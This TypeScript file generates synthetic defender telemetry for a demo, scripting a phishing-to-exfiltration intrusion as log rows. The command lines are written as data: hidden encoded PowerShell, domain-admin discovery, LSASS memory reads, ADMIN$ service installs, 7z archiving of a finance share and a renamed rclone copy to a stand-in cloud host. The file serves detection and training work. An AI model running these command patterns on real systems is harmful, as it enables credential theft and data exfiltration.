/**
 * The attack in the demo data, over about two days: a phishing mail, a macro, a helper in AppData, an administrator's
 * credentials, the file server, data leaving. It is text about an attack and nothing more: the names are reserved,
 * no file exists, and the encoded command decodes to a sentence that is printed.
 */
import { alertRows, fileEvidence, machineEvidence, userEvidence } from './events/alerts.ts'
import { cloudRow } from './events/cloud.ts'
import { deviceEventRow, dnsAnswer, fileColumns, openedProcess, serviceInstalled } from './events/device-events.ts'
import { fileRow } from './events/files.ts'
import { domainLogon, queryRow, signInRow } from './events/identity.ts'
import { imageLoaded, MACRO_ENGINE } from './events/images.ts'
import { deviceOf, logonRow } from './events/logons.ts'
import { type Mail, mailRows, postDelivery, type Sender, urlClickRow } from './events/mail.ts'
import { connection, inbound } from './events/network.ts'
import { processCreated } from './events/processes.ts'
import { registryValueSet } from './events/registry.ts'
import { type Account, type Device, NETBIOS, OFFICE_IP, SYSTEM } from './firm.ts'
import type { Host } from './hosts.ts'
import { KERNEL_ID, type Machine, type Process } from './machine.ts'
import { fileFacts, KERNEL, PROGRAMS, type Program, program } from './software.ts'
import { DAY, HOUR, MINUTE, startOfDay } from './time.ts'
import type { World } from './world.ts'

export interface Step {
  readonly at: number
  /** The device that it happens on; its own processes must have got that far. */
  readonly device?: Device
  readonly run: () => void
}

export interface Story {
  readonly steps: readonly Step[]
  /** When the devices of the story restarted, so that their rows reach back to the first process. */
  readonly restartAt: number
  readonly devices: readonly Device[]
  /** From the mail to the last file sent. */
  readonly from: number
  readonly to: number
}

/** About a second: with whole ones, rows of one step would all end in the same digits. */
const MOMENT = 1003.7319

const PHISHER: Sender = { address: 'billing@fabrikam-invoices.example', name: 'Fabrikam Billing', ip: '203.0.113.140' }
const LURE: Host = { name: 'view.fabrikam-invoices.example', ip: '203.0.113.141', port: 443 }
const LURE_URL = `https://${LURE.name}/INV-20931`
const CONTROL: Host = { name: 'cdn-telemetry.example.org', ip: '203.0.113.66', port: 443 }
const DROP: Host = { name: 'storage.nimbus-drive.example', ip: '198.51.100.77', port: 443 }
const ATTACKER_IP = '203.0.113.99'

/** What PowerShell's -EncodedCommand takes: base64 of UTF-16. It prints a sentence. */
const SCRIPT = `Write-Host 'Harrier demo data: nothing is fetched from https://${CONTROL.name}/start'`
const ENCODED = Buffer.from(SCRIPT, 'utf16le').toString('base64')
const POWERSHELL_LINE = `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${ENCODED}`

const DISCOVERY: readonly (readonly [string, string])[] = [
  ['whoami', 'whoami /all'],
  ['ipconfig', 'ipconfig /all'],
  ['systeminfo', 'systeminfo'],
  ['net', 'net group "Domain Admins" /domain'],
  ['net', 'net view \\\\tb-file01'],
  ['nltest', 'nltest /dclist:ternbay.example'],
  ['quser', 'quser'],
]

export function storyOf(world: World, machine: (device: Device) => Machine): Story {
  const { firm, random, now } = world
  const { victim, victimDevice, fileServer, domainController, stolen } = firm
  const steps: Step[] = []
  const step = (about: number, device: Device | undefined, run: (at: number) => void): void => {
    const at = about + random.next() * 900
    steps.push({ at, ...(device && { device }), run: () => run(at) })
  }
  const started = (
    m: Machine,
    file: Program,
    at: number,
    parent: Process | undefined,
    commandLine: string,
    account: Account,
    logonId?: number,
  ): Process => {
    const process = m.run(file, { at, commandLine, account, parent, ...(logonId !== undefined && { logonId }) })
    processCreated(world, process)
    return process
  }

  const to = now - 26 * HOUR
  const latest = to - 38 * HOUR
  const morning = startOfDay(latest) + 9 * HOUR + 12 * MINUTE
  const mailed = morning > latest ? morning - DAY : morning
  const opened = mailed + 9 * MINUTE
  const lateral = to - 230 * MINUTE

  // Files, each with one identity wherever it turns up.
  const home = `C:\\Users\\${victim.name}`
  const cache = `${home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7K2M9QPD\\INV-20931.docm`
  const document = fileFacts(cache, 'INV-20931.docm', 84_480)
  const helper: Program = {
    ...program(
      `${home}\\AppData\\Roaming\\OneSync\\onesync.exe`,
      'OneSync',
      'OneSync Helper',
      'OneSync Helper',
      '1.0.3.0',
    ),
    signer: 'Unsigned',
  }
  const service: Program = {
    ...program('C:\\Windows\\onesvc.exe', 'OneSync', 'OneSync Helper', 'OneSync Service', '1.0.3.0'),
    signer: 'Unsigned',
  }
  const archiver: Program = { ...PROGRAMS.get('7z')!, folderPath: 'C:\\ProgramData\\sync\\7z.exe' }
  const copier: Program = {
    ...program(
      'C:\\ProgramData\\sync\\syncutil.exe',
      'https://rclone.example',
      'Rclone',
      'Rclone',
      '1.71.2',
      'rclone.exe',
    ),
    signer: 'Unsigned',
  }
  const archive = fileFacts('C:\\ProgramData\\sync\\fin.7z', 'fin.7z', 1_873_240_064)
  const memory = fileFacts('C:\\Users\\Public\\sync.dat', 'sync.dat', 61_202_432)

  // 1. The mail: to six people, two of whose copies are junked.
  const recipients = [
    victim,
    ...firm.people.filter((p) => p !== victim && p.department === 'Finance').slice(0, 3),
    ...firm.people.filter((p) => p.department === 'Sales').slice(0, 2),
  ]
  const mails = recipients.map(
    (person, i): Mail => ({
      at: mailed + i * 2 * MOMENT,
      id: random.guid(),
      sender: PHISHER,
      recipient: person.upn,
      recipientObjectId: person.objectId,
      subject: 'Overdue invoice INV-20931 - final reminder',
      direction: 'Inbound',
      attachments: [{ ...document, fileName: 'INV-20931.docm' }],
      urls: [LURE_URL],
      cluster: 2_093_100_417,
      ...(i >= 4 && { verdict: { threat: 'Phish', action: 'Junked', by: 'Advanced filter' } as const }),
    }),
  )
  step(mailed, undefined, () => {
    for (const mail of mails) mailRows(world, mail)
  })
  step(mailed + 7 * MINUTE, undefined, (at) =>
    urlClickRow(world, {
      at,
      url: LURE_URL,
      person: victim,
      kind: 'ClickAllowed',
      messageId: mails[0]!.id,
      ip: OFFICE_IP,
    }),
  )
  step(mailed + 31 * MINUTE, undefined, (at) =>
    urlClickRow(world, {
      at,
      url: LURE_URL,
      person: recipients[1]!,
      kind: 'ClickAllowed',
      messageId: mails[1]!.id,
      ip: OFFICE_IP,
    }),
  )
  step(mailed + 5 * HOUR, undefined, (at) => {
    for (const mail of mails.slice(2, 4)) postDelivery(world, mail, at, 'Phish ZAP')
  })
  step(mailed + 6 * HOUR, undefined, (at) =>
    urlClickRow(world, {
      at,
      url: LURE_URL,
      person: recipients[3]!,
      kind: 'ClickBlocked',
      messageId: mails[3]!.id,
      ip: OFFICE_IP,
    }),
  )

  // 2. The victim's workstation: link, document, macro, PowerShell, helper.
  const at0 = machine(victimDevice)
  let running: Process | undefined
  step(mailed + 7 * MINUTE + MOMENT, victimDevice, (at) => {
    deviceEventRow(world, at, at0.ensure('outlook', at), 'BrowserLaunchedToOpenUrl', {
      columns: { RemoteUrl: LURE_URL },
    })
    connection(world, at + MOMENT, at0.ensure('msedge', at), LURE)
  })
  step(opened, victimDevice, (at) => {
    const outlook = at0.ensure('outlook', at)
    fileRow(world, at, outlook, 'FileCreated', document, { FileOriginReferrerUrl: LURE_URL })
    const user = victim
    const word = started(
      at0,
      PROGRAMS.get('winword')!,
      at + 4 * MOMENT,
      outlook,
      `"WINWORD.EXE" /n "${cache}" /o ""`,
      user,
    )
    imageLoaded(world, at + 21 * MOMENT, word, MACRO_ENGINE)
    const cmd = started(at0, PROGRAMS.get('cmd')!, at + 40 * MOMENT, word, `cmd.exe /c ${POWERSHELL_LINE}`, user)
    deviceEventRow(world, at + 40 * MOMENT, word, 'AsrOfficeChildProcessAudited', {
      columns: { ...fileColumns(PROGRAMS.get('cmd')!), ProcessCommandLine: cmd.commandLine },
      fields: { IsAudit: true, RuleId: 'd4f940ab-401b-4efc-aadc-ad5f3c50688a' },
    })
    const shell = started(at0, PROGRAMS.get('powershell')!, at + 41 * MOMENT, cmd, POWERSHELL_LINE, user)
    started(at0, PROGRAMS.get('conhost')!, at + 41.2 * MOMENT, cmd, 'conhost.exe 0xffffffff -ForceV1', user)
    deviceEventRow(world, at + 43 * MOMENT, shell, 'ScriptContent', { fields: { ScriptContent: SCRIPT } })
    deviceEventRow(world, at + 43.5 * MOMENT, shell, 'PowerShellCommand', { fields: { Command: 'Write-Host' } })
    deviceEventRow(world, at + 44 * MOMENT, shell, 'DnsQueryResponse', dnsAnswer(CONTROL))
    connection(world, at + 45 * MOMENT, shell, CONTROL)
    fileRow(world, at + 47 * MOMENT, shell, 'FileCreated', helper, {
      FileOriginUrl: `https://${CONTROL.name}/onesync.exe`,
      FileOriginIP: CONTROL.ip,
      AdditionalFields: '{"FileType":"PortableExecutable"}',
    })
    running = started(at0, helper, at + 52 * MOMENT, shell, `"${helper.folderPath}" --quiet`, user)
    registryValueSet(
      world,
      at + 55 * MOMENT,
      running,
      `HKEY_CURRENT_USER\\${victim.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
      'OneSyncHelper',
      'String',
      `"${helper.folderPath}" --quiet`,
    )
    connection(world, at + 58 * MOMENT, running, CONTROL)
  })
  for (let at = opened + 30 * MINUTE; at < to; at += (30 + random.next()) * MINUTE) {
    step(at, victimDevice, (time) => connection(world, time, running!, CONTROL))
  }

  // 3. Looking around, first on the device, then in the directory.
  step(opened + 22 * MINUTE, victimDevice, (at) => {
    DISCOVERY.forEach(([key, line], i) => {
      const time = at + i * 17 * MOMENT
      const cmd = started(at0, PROGRAMS.get('cmd')!, time, running, `cmd.exe /c ${line}`, victim)
      started(at0, PROGRAMS.get(key)!, time + MOMENT, cmd, line, victim)
    })
    deviceEventRow(world, at + 3 * MINUTE, running!, 'LdapSearch', {
      fields: {
        AttributeList: ['sAMAccountName', 'memberOf'],
        DistinguishedName: 'DC=ternbay,DC=example',
        ScopeOfSearch: 'subtree',
        SearchFilter: '(&(objectCategory=person)(adminCount=1))',
      },
    })
    connection(world, at + 3 * MINUTE, running!, { name: domainController.name, ip: domainController.ip, port: 389 })
    queryRow(world, at + 3 * MINUTE, victim, victimDevice, 'LDAP query', [
      'AllDomainAdmins',
      '(&(objectCategory=person)(adminCount=1))',
    ])
    queryRow(world, at + 4 * MINUTE, victim, victimDevice, 'SAMR query', ['EnumerateGroups', 'Domain Admins'])
  })

  // 4. The service desk helps with "the document that does not open", and so leaves credentials in memory.
  step(opened + 48 * MINUTE, victimDevice, (at) =>
    logonRow(world, {
      device: victimDevice,
      at,
      account: stolen,
      type: 'RemoteInteractive',
      protocol: 'Negotiate',
      from: deviceOf(world, stolen),
      isLocalAdmin: true,
      process: at0.ensure('svchost:termservice', at),
    }),
  )
  step(opened + 70 * MINUTE, victimDevice, (at) => {
    const lsass = at0.ensure('lsass', at)
    deviceEventRow(world, at, running!, 'OpenProcessApiCall', openedProcess(lsass.program, lsass.id, 2_097_151))
    deviceEventRow(world, at + MOMENT, running!, 'ReadProcessMemoryApiCall', {
      columns: { ...fileColumns(lsass.program), ProcessId: lsass.id },
      fields: { TotalBytesCopied: memory.size },
    })
    deviceEventRow(world, at + MOMENT, running!, 'AsrLsassCredentialTheftAudited', {
      columns: fileColumns(lsass.program),
      fields: { IsAudit: true },
    })
    fileRow(world, at + 3 * MOMENT, running!, 'FileCreated', memory)
  })

  // 5. The night: the victim's mailbox from elsewhere.
  const night = mailed + 20 * HOUR
  const abroad = { ip: ATTACKER_IP, country: 'BR', city: 'Recife' }
  const agent = 'Mozilla/5.0 (X11; Linux x86_64) Firefox/115.0'
  step(night, undefined, (at) => {
    recipients.slice(1, 5).forEach((person, i) => {
      signInRow(world, {
        at: at + i * 20 * MOMENT,
        person,
        ...abroad,
        errorCode: 50126,
        userAgent: agent,
        application: 'Office 365 Exchange Online',
      })
    })
    signInRow(world, {
      at: at + 3 * MINUTE,
      person: victim,
      ...abroad,
      userAgent: agent,
      risk: 100,
      application: 'Office 365 Exchange Online',
    })
    cloudRow(world, {
      at: at + 9 * MINUTE,
      person: victim,
      kind: 'New-InboxRule',
      application: 'Microsoft Exchange Online',
      object: 'Inbox rule ..',
      ...abroad,
      userAgent: agent,
      parameters: { Name: '..', SubjectContainsWords: 'invoice;INV-20931;payment', DeleteMessage: 'True' },
    })
    for (let i = 0; i < 6; i++) {
      cloudRow(world, {
        at: at + (14 + i) * MINUTE,
        person: victim,
        kind: 'FileDownloaded',
        application: 'Microsoft SharePoint Online',
        object: `Supplier accounts ${2021 + i}.xlsx`,
        ...abroad,
        userAgent: agent,
      })
    }
  })

  // 6. The file server, with the administrator's credentials.
  step(lateral, victimDevice, (at) =>
    connection(world, at, running!, { name: fileServer.name, ip: fileServer.ip, port: 445 }),
  )
  step(lateral, undefined, (at) => {
    domainLogon(world, at + MOMENT, stolen, victimDevice, fileServer, 'Ntlm', true)
    domainLogon(world, at + 40 * MOMENT, stolen, victimDevice, fileServer, 'Ntlm', false)
  })
  const at1 = machine(fileServer)
  let copying: Process | undefined
  step(lateral + MOMENT, fileServer, (at) => {
    const lsass = at1.ensure('lsass', at)
    const services = at1.ensure('services', at)
    const kernel = at1.run(KERNEL, {
      at: at1.ensure('smss', at).created - MOMENT,
      commandLine: '',
      account: SYSTEM,
      parent: undefined,
      id: KERNEL_ID,
    })
    inbound(world, at, kernel, victimDevice, 445)
    const logon = {
      device: fileServer,
      account: stolen,
      type: 'Network',
      protocol: 'NTLM',
      from: victimDevice,
      process: lsass,
    } as const
    logonRow(world, { ...logon, at, failure: 'InvalidUserNameOrPassword' })
    logonRow(world, { ...logon, at: at + 39 * MOMENT, isLocalAdmin: true })
    fileRow(world, at + 55 * MOMENT, kernel, 'FileCreated', service, {
      RequestProtocol: 'SMB',
      RequestSourceIP: victimDevice.ip,
      RequestSourcePort: random.int(49_152, 65_500),
      RequestAccountName: stolen.name,
      RequestAccountDomain: NETBIOS.toUpperCase(),
      RequestAccountSid: stolen.sid,
      ShareName: 'ADMIN$',
    })
    registryValueSet(
      world,
      at + 60 * MOMENT,
      services,
      'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\OneSyncSvc',
      'ImagePath',
      'ExpandString',
      service.folderPath,
    )
    deviceEventRow(world, at + 60 * MOMENT, services, 'ServiceInstalled', serviceInstalled('OneSyncSvc', service))
    copying = started(at1, service, at + 62 * MOMENT, services, service.folderPath, SYSTEM)
  })

  // 7. Packing and sending.
  step(lateral + 40 * MINUTE, fileServer, (at) => {
    const cmd = started(at1, PROGRAMS.get('cmd')!, at, copying, 'cmd.exe /c C:\\ProgramData\\sync\\pack.cmd', SYSTEM)
    fileRow(world, at - 4 * MINUTE, copying!, 'FileCreated', archiver)
    fileRow(world, at - 3 * MINUTE, copying!, 'FileCreated', copier)
    const packing = started(
      at1,
      archiver,
      at + 2 * MOMENT,
      cmd,
      '7z.exe a -mx1 -v500m C:\\ProgramData\\sync\\fin.7z D:\\Shares\\Finance\\*',
      SYSTEM,
    )
    fileRow(world, at + 25 * MINUTE, packing, 'FileCreated', archive)
  })
  step(to - 100 * MINUTE, fileServer, (at) => {
    copying = started(
      at1,
      copier,
      at,
      copying,
      'syncutil.exe copy C:\\ProgramData\\sync nimbus:drop --transfers 8 --no-check-certificate --config C:\\ProgramData\\sync\\s.conf',
      SYSTEM,
    )
    deviceEventRow(world, at + MOMENT, copying, 'DnsQueryResponse', dnsAnswer(DROP))
  })
  for (let i = 0; i < 24; i++) {
    step(to - (99 - i * 4) * MINUTE, fileServer, (at) => connection(world, at, copying!, DROP))
  }

  // 8. What was noticed, some of it too late.
  const device = (evidence: Process, host?: Host) => [
    machineEvidence(evidence.device),
    {
      type: 'Process' as const,
      columns: {
        FileName: evidence.program.fileName,
        FolderPath: evidence.program.folderPath,
        SHA1: evidence.program.sha1,
        SHA256: evidence.program.sha256,
        ProcessCommandLine: evidence.commandLine,
        DeviceId: evidence.device.id,
        DeviceName: evidence.device.name,
      },
    },
    fileEvidence(evidence.program, evidence.device),
    ...(host
      ? [
          { type: 'Ip' as const, columns: { RemoteIP: host.ip } },
          { type: 'Url' as const, columns: { RemoteUrl: host.name } },
        ]
      : []),
  ]
  const endpoint = { source: 'Microsoft Defender for Endpoint', detection: 'EDR' } as const
  step(mailed + 5 * HOUR + 2 * MINUTE, undefined, (at) =>
    alertRows(world, {
      at,
      title: 'Email messages containing malicious URL removed after delivery',
      category: 'InitialAccess',
      severity: 'Informational',
      source: 'Microsoft Defender for Office 365',
      detection: 'Microsoft Defender for Office 365',
      techniques: ['Phishing (T1566)', 'Spearphishing Link (T1566.002)'],
      evidence: [
        ...mails.map((mail) => ({
          type: 'MailMessage' as const,
          columns: { NetworkMessageId: mail.id, EmailSubject: mail.subject, AccountUpn: mail.recipient },
        })),
        { type: 'Url', columns: { RemoteUrl: LURE_URL } },
        fileEvidence({ ...document, fileName: 'INV-20931.docm' }),
      ],
    }),
  )
  step(opened + 2 * HOUR, victimDevice, (at) =>
    alertRows(world, {
      at,
      title: 'Suspicious process launched from an Office application',
      category: 'Execution',
      severity: 'Medium',
      ...endpoint,
      techniques: ['PowerShell (T1059.001)', 'Malicious File (T1204.002)'],
      evidence: [userEvidence(victim), ...device(running!.parent!, CONTROL)],
    }),
  )
  step(opened + 2 * HOUR + 3 * MINUTE, victimDevice, (at) =>
    alertRows(world, {
      at,
      title: 'Anomaly detected in ASEP registry',
      category: 'Persistence',
      severity: 'Medium',
      ...endpoint,
      techniques: ['Registry Run Keys / Startup Folder (T1547.001)'],
      evidence: [
        userEvidence(victim),
        ...device(running!),
        {
          type: 'RegistryValue',
          columns: {
            RegistryKey: `HKEY_CURRENT_USER\\${victim.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run`,
            RegistryValueName: 'OneSyncHelper',
            RegistryValueData: `"${helper.folderPath}" --quiet`,
          },
        },
      ],
    }),
  )
  step(opened + 3 * HOUR, victimDevice, (at) =>
    alertRows(world, {
      at,
      title: 'Sensitive credential memory read',
      category: 'CredentialAccess',
      severity: 'High',
      ...endpoint,
      techniques: ['LSASS Memory (T1003.001)'],
      evidence: [userEvidence(victim), ...device(running!), fileEvidence(memory, victimDevice)],
    }),
  )
  step(night + 30 * MINUTE, undefined, (at) =>
    alertRows(world, {
      at,
      title: 'Atypical travel',
      category: 'InitialAccess',
      severity: 'Medium',
      source: 'Microsoft Entra ID Protection',
      detection: 'Microsoft Entra ID Protection',
      techniques: ['Valid Accounts (T1078)', 'Cloud Accounts (T1078.004)'],
      evidence: [userEvidence(victim), { type: 'Ip', columns: { RemoteIP: ATTACKER_IP } }],
    }),
  )
  step(lateral + 2 * HOUR, fileServer, (at) =>
    alertRows(world, {
      at,
      title: 'Suspicious service launched by a remote logon',
      category: 'LateralMovement',
      severity: 'High',
      ...endpoint,
      techniques: ['SMB/Windows Admin Shares (T1021.002)', 'Windows Service (T1543.003)'],
      evidence: [
        userEvidence(stolen),
        machineEvidence(victimDevice),
        machineEvidence(fileServer),
        fileEvidence(service, fileServer),
      ],
    }),
  )
  step(to - MINUTE, fileServer, (at) =>
    alertRows(world, {
      at,
      title: 'Possible data exfiltration by a renamed copy tool',
      category: 'Exfiltration',
      severity: 'High',
      ...endpoint,
      techniques: ['Exfiltration to Cloud Storage (T1567.002)'],
      evidence: [userEvidence(stolen), ...device(copying!, DROP)],
    }),
  )
  step(to, fileServer, (at) =>
    deviceEventRow(world, at, at1.ensure('msmpeng', at), 'AntivirusDetection', {
      columns: { ...fileColumns(copier), ProcessId: copying!.id, ...remoteUrl(DROP) },
      fields: {
        ThreatName: 'Behavior:Win32/HarrierDemo.A',
        WasExecutingWhileDetected: true,
        WasRemediated: true,
        Action: 3,
        ReportSource: 'Windows Defender',
      },
    }),
  )
  step(to + 40 * MINUTE, undefined, (at) => {
    for (const mail of mails.slice(0, 2)) postDelivery(world, mail, at, 'Manual Remediation')
  })

  return {
    steps: steps.sort((a, b) => a.at - b.at),
    restartAt: startOfDay(mailed) - DAY + 4 * HOUR + 30 * MINUTE,
    devices: [victimDevice, fileServer, domainController],
    from: mailed,
    to,
  }
}

const remoteUrl = (host: Host) => ({ RemoteUrl: host.name })
